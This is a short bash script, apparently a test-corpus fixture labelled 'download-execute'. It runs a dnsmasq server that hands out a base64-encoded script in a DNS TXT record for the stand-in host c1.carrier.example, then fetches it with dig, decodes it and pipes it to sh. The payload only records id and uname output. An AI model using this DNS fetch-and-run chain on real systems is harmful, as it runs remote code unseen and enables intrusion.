#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=dig,base64,dash far=out ready=out:53 seconds=14 parts=dns
# dig fetches a script in TXT, base64 makes it readable and a shell runs it, all by pipes.
if [ "$1" = out ]; then
	script=$(printf 'id >%s/ran; uname -a >>%s/ran; sleep 4\n' "$LAB" "$LAB" | base64 -w 0)
	exec timeout 30 dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= --bind-interfaces --listen-address=203.0.113.66 --txt-record="c1.carrier.example,$script"
fi
sleep 2; dig +short TXT c1.carrier.example | tr -d '" ' | base64 -d | sh; grep -q uid=0 "$LAB/ran"
